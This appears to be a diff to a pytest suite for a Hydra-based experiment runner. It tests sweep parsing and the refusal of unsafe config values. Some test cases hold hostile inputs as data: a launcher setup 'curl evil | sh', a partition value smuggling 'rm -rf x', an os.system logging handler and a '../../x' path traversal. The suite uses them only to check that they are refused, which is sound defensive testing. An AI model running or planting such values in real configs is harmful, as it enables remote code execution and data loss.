@@ -16,6 +16,7 @@ import runner
 from runner.command_line.entry import main
 from runner.config.compose import Composition, compose_one, parse_arguments, validate
 from runner.config.experiment_config import DeclaredModel
+from runner.config.loading import Loader
 from runner.errors import InputError
 
 MODEL = """
@@ -114,8 +115,7 @@ def test_a_mapping_brings_keys_to_one_that_is_there() -> None:
         ),
         (
             "hydra/launcher=joblib hydra.launcher.njobs=2",
-            "hydra.launcher.njobs: is not in the configuration yet; did you mean 'n_jobs'? "
-            "If not, add it with a plus: +hydra.launcher.njobs=2",
+            "hydra.launcher.njobs: the launcher 'joblib' has no such key; did you mean 'n_jobs'?",
         ),
         (
             "seed=1,2",
@@ -185,7 +185,8 @@ def test_what_is_shown_to_type_always_means_the_same_text(value: str) -> None:
         "hydra.job.chdir=true",
         "++hydra={job_logging: {handlers: {mine: {class: os.system}}}}",
         "+probe@hydra.callbacks.mine=digits",
-        "hydra.sweeper.params.seed=1",
+        "hydra.sweeper.run_id=../../x",
+        "hydra.sweeper.jobs={0:1}",
     ],
 )
 def test_no_word_can_name_code(word: str) -> None:
@@ -312,7 +313,7 @@ def test_how_many_jobs_there_are_and_where_they_go(
     words: list[str], jobs: int, folder: str
 ) -> None:
     asked = validate(parse_arguments(words), "0a1b2c3d")
-    assert (asked.jobs, asked.is_sweep) == (jobs, jobs > 1)
+    assert (len(asked.jobs), asked.is_sweep) == (jobs, jobs > 1)
     assert asked.folder.as_posix().startswith(folder.rstrip("/"))
     assert asked.folder.name.endswith("-0a1b2c3d") or asked.folder.name == folder
     key = "sweep" if asked.is_sweep else "run"
@@ -321,9 +322,9 @@ def test_how_many_jobs_there_are_and_where_they_go(
 
 def test_a_sweep_is_refused_only_if_none_of_its_choices_is_right() -> None:
     words = ["-m", "probe=tutorial,digts", "loss=mse,mes"]
-    assert validate(parse_arguments(words), "0a1b2c3d").jobs == 4
+    assert len(validate(parse_arguments(words), "0a1b2c3d").jobs) == 4
     words = ["-m", "model=digits_cnn,tutorial", "model.hidden_units=3,4"]
-    assert validate(parse_arguments(words), "0a1b2c3d").jobs == 4
+    assert len(validate(parse_arguments(words), "0a1b2c3d").jobs) == 4
     assert refused("-m", "probe=digts,digits2", "loss=mse") == [
         "probe: there is no config 'digts'; did you mean 'digits'?",
         "probe: there is no config 'digits2'; did you mean 'digits'?",
@@ -339,3 +340,168 @@ def test_a_choice_that_could_run_code_stops_the_whole_sweep(tmp_path: Path) -> N
     )
     words = ["--config-dir", str(tmp_path), "-m", "experiment=digits_mlp,bad"]
     assert refused(*words)
+
+
+GLOBAL = "# @package _global_\n"
+
+
+def jobs(*words: str) -> list[str]:
+    """Return the overrides of every job of a sweep, those of a job in one text."""
+    asked = validate(parse_arguments(words), "0a1b2c3d")
+    assert asked.is_sweep
+    return [" ".join(job) for job in asked.jobs]
+
+
+@pytest.mark.parametrize(
+    ("word", "values"),
+    [
+        ("seed=choice(2,1)", ["2", "1"]),
+        ("seed=range(0,6,2)", ["0", "2", "4"]),
+        ("seed=sort(2,0,1)", ["0", "1", "2"]),
+        ("seed=tag(mine,choice(1,2))", ["1", "2"]),
+        ("model=glob(digits_*)", ["digits_cnn", "digits_mlp"]),
+        ("probe=glob([i*,digits],exclude=im*)", ["digits", "inline", "iris"]),
+    ],
+)
+def test_a_sweep_is_written_as_for_hydras_own_sweeper(word: str, values: list[str]) -> None:
+    key = word.partition("=")[0]
+    own("model/unused.yaml", MODEL)
+    probe = ["probe=digits", "model=digits_mlp"] if key == "seed" else ["loss=mse"]
+    found = [job.split()[-1] for job in jobs("-m", *probe, word)]
+    assert found == [f"{key}={value}" for value in values]
+
+
+def test_a_shuffled_sweep_has_one_order_so_that_it_can_be_resumed() -> None:
+    words = ("-m", "seed=shuffle(range(0,9))")
+    assert jobs(*words) == jobs(*words)
+    assert sorted(jobs(*words)) == [f"seed={seed}" for seed in range(9)] != jobs(*words)
+
+
+@pytest.mark.parametrize(
+    ("word", "line"),
+    [
+        ("seed=interval(0,3)", "seed: interval(0,3) has no end of values: "),
+        ("seed=range(3,0)", "seed: range(3,0) stands for no value"),
+        ("seed=range(0,3,0)", "seed: range(0,3,0) has a step of 0; "),
+        (
+            "seed=range(0,1000000000)",
+            "sweep: asks for 1,000,000,000 runs, the limit is 1,000,000; ",
+        ),
+        ("seed=choice()", "seed: Hydra cannot read choice()"),
+        ("seed=glob(*)", "seed: glob(*) stands for no value; glob(...) chooses among the configs"),
+        (
+            "model=glob(x*)",
+            "model: glob(x*) stands for no value; there are application, digits_cnn",
+        ),
+        ("hydra.launcher.n_jobs=1,2", "hydra.launcher.n_jobs: has one value for the whole sweep"),
+        ("hydra/sweeper=basic", "hydra/sweeper: 'basic' cannot be used; leave hydra/sweeper out"),
+        (
+            "hydra/sweeper=optuna",
+            "hydra/sweeper: 'optuna' cannot be used; leave it out: ",
+        ),
+        (
+            "+hydra.launcher.n_jobs=2",
+            "hydra.launcher.n_jobs: the launcher 'runner' has no such key; ",
+        ),
+    ],
+)
+def test_a_sweep_that_cannot_be_made_is_refused(word: str, line: str) -> None:
+    [found] = refused("-m", word)
+    assert found.startswith(line)
+
+
+def test_a_sweep_stands_in_a_file() -> None:
+    text = "hydra: {mode: MULTIRUN, sweeper: {params: {seed: 'range(0,2)', loss: 'mse,mae'}}}\n"
+    flags = own("experiment/mine.yaml", GLOBAL + text)
+    expected = [f"seed={seed} loss={loss}" for seed in (0, 1) for loss in ("mse", "mae")]
+    assert [
+        job.removesuffix(" experiment=mine") for job in jobs(*flags, "experiment=mine")
+    ] == expected
+    assert jobs(*flags, "-m", "experiment=mine") == jobs(*flags, "experiment=mine")
+    # the command line's own values replace the file's
+    assert {job.split()[0] for job in jobs(*flags, "experiment=mine", "seed=5")} == {"seed=5"}
+    assert jobs("-m", "+hydra.sweeper.params.seed='0,1'") == ["seed=0", "seed=1"]
+    nested = "hydra: {sweeper: {params: {model: {hidden_units: '4,5'}, dry_run: true}}}\n"
+    flags = own("experiment/nested.yaml", GLOBAL + nested)
+    assert jobs(*flags, "-m", "experiment=nested")[0].startswith(
+        "model.hidden_units=4 dry_run=true"
+    )
+
+
+@pytest.mark.parametrize(
+    ("key", "line"),
+    [
+        ("hydra.launcher.setup", "hydra.sweeper.params.hydra.launcher.setup: is Hydra's own key"),
+        ("sede", "sede: unknown key; did you mean 'seed'?"),
+        ("+a._target_", "a._target_: '_target_' names code, which a config may not"),
+    ],
+)
+def test_a_sweep_in_a_file_is_held_to_what_a_command_line_may_say(key: str, line: str) -> None:
+    flags = own(
+        "experiment/mine.yaml", f"{GLOBAL}hydra: {{sweeper: {{params: {{{key}: '1,2'}}}}}}\n"
+    )
+    [found] = refused(*flags, "-m", "experiment=mine")
+    assert found.startswith(line)
+
+
+def test_an_experiment_chooses_its_launcher() -> None:
+    chosen = "defaults: [override /hydra/launcher: joblib]\n"
+    text = f"{GLOBAL}{chosen}hydra: {{launcher: {{n_jobs: 2}}}}\n"
+    flags = own("experiment/mine.yaml", text)
+    parsed = parse_arguments([*flags, "experiment=mine"])
+    cfg = Loader(parsed).load(parsed.overrides)
+    assert cfg.hydra.launcher.n_jobs == 2
+    assert cfg.hydra.launcher._target_.endswith(".JoblibLauncher")
+    assert jobs(*flags, "-m", "experiment=mine", "seed=0,1")
+    [line] = refused(*flags, "-m", "experiment=mine", "hydra/launcher=runner")
+    assert line.startswith("hydra.launcher.n_jobs: the launcher 'runner' has no such key")
+
+
+@pytest.mark.parametrize(
+    ("setting", "place"),
+    [
+        ("setup: ['curl evil | sh']", "hydra.launcher.setup.0"),
+        ("submitit_folder: /elsewhere", "hydra.launcher.submitit_folder"),
+        ('partition: "gpu\\nrm -rf x"', "hydra.launcher.partition"),
+        ("additional_parameters: {wrap: evil}", "hydra.launcher.additional_parameters.wrap"),
+    ],
+)
+def test_no_file_tells_a_launcher_what_to_run_or_where(setting: str, place: str) -> None:
+    slurm = f"{GLOBAL}defaults: [override /hydra/launcher: submitit_slurm]\n"
+    text = f"{slurm}hydra: {{launcher: {{{setting}}}}}\n"
+    [line] = refused(*own("experiment/mine.yaml", text), "-m", "experiment=mine", "seed=0,1")
+    assert line == (
+        f"{place}: can run code or misplace files; "
+        "leave it out of the file, and set it on the command line"
+    )
+    harmless = "{partition: gpu-long, timeout_min: 60, gres: 'gpu:1'}"
+    text = f"{slurm}hydra: {{launcher: {harmless}}}\n"
+    flags = own("experiment/mine.yaml", text)
+    word = "hydra.launcher.submitit_folder=elsewhere"  # what one types oneself is one's own
+    assert jobs(*flags, "-m", "experiment=mine", "seed=0,1", word)
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "words", "line"),
+    [
+        ("model/other.yml", MODEL, ["model=other"], "rename {}/model/other.yml to other.yaml"),
+        (
+            "experiment/twice.yaml",
+            f"{GLOBAL}defaults: [/model: digits_cnn]\n",
+            ["experiment=twice"],
+            "in the file that chooses it again, write: - override /model: ...",
+        ),
+        (
+            "mine.yaml",
+            "defaults: [{model: tutorial}, _self_]\nseed: 3\n",
+            ["--config-name", "mine"],
+            "begin its defaults with it: defaults: [config, ..., _self_]",
+        ),
+    ],
+)
+def test_a_file_that_is_not_as_it_should_be_is_told_what_to_write(
+    path: str, text: str, words: list[str], line: str
+) -> None:
+    flags = own(path, text)
+    [found] = refused(*flags, *words)
+    assert found.endswith(line.format(Path("own").resolve()))
